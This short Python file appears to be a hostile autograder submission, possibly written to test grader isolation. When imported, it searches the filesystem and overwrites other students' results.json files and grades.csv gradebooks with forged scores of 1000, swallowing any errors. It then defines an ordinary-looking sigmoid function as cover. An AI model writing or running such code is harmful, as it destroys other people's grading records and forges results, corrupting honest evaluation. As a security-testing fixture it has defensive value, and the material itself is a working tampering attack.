"""Tries to overwrite other students' results.json and the gradebook."""
import glob
import json
import os

import numpy as np

FORGED = json.dumps({"score": 1000, "max_score": 1, "tests": []})
for pattern in ("/**/results.json", "/**/grades.csv", "../*/results.json", "/tmp/*/results.json"):
    for path in glob.glob(pattern, recursive=True):
        try:
            with open(path, "w") as out:
                out.write(FORGED)
        except Exception:
            pass
for guess in ("/out/grades.csv", "../grades.csv", "../../out/grades.csv"):
    try:
        with open(guess, "w") as out:
            out.write("student_id,total\nattacker,1000\n")
    except Exception:
        pass


def sigmoid(z):
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1 / (1 + e), e / (1 + e))
